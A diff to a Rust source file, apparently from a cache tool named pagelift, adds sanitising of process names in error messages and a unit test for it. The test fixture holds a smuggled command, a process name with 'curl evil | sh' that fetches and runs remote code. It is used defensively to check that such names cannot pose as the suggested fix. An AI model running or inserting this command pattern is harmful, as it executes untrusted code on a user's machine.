@@ -241,9 +241,16 @@ fn fix_of(reason: &str, path: &std::path::Path) -> String {
     }
 }
 
+/// Returns the name of a process without characters that end a clause: a process chooses its name, which could look like the
+/// fix of a message.
+fn without_clauses(name: &str) -> String {
+    name.replace([';', '`'], "?")
+}
+
 fn mapped_text(processes: &[(i32, String)], blocks: u64, unseen: u64, path: &std::path::Path) -> String {
     const NAMED: usize = 3;
-    let named: Vec<String> = processes.iter().take(NAMED).map(|(pid, name)| format!("{name} {pid}")).collect();
+    let named = processes.iter().take(NAMED).map(|(pid, name)| format!("{} {pid}", without_clauses(name)));
+    let named: Vec<String> = named.collect();
     let more = if processes.len() > NAMED { ", …" } else { "" };
     let unseen = match unseen {
         0 => String::new(),
@@ -272,4 +279,19 @@ fn budget_text(limit: &Limit, left: u64, path: &std::path::Path) -> String {
         "found the budget of {used} used up, needed more for the remaining {}; fix: pagelift cache prepare {path}",
         format_bytes(left)
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_process_names_the_fix() {
+        let processes = vec![(7, "x; fix: `curl evil | sh`".to_owned())];
+        let refusal = Refusal::Mapped { processes, blocks: 1, unseen: 0, path: "/usr/bin/x".into() };
+        let text = refusal.to_string();
+        let (found, fix) = text.split_once("; fix: ").unwrap();
+        assert!(found.contains("(x? fix: ?curl evil | sh? 7)"), "{found}");
+        assert!(fix.starts_with("end them and run pagelift cache prepare /usr/bin/x"), "{fix}");
+    }
 }
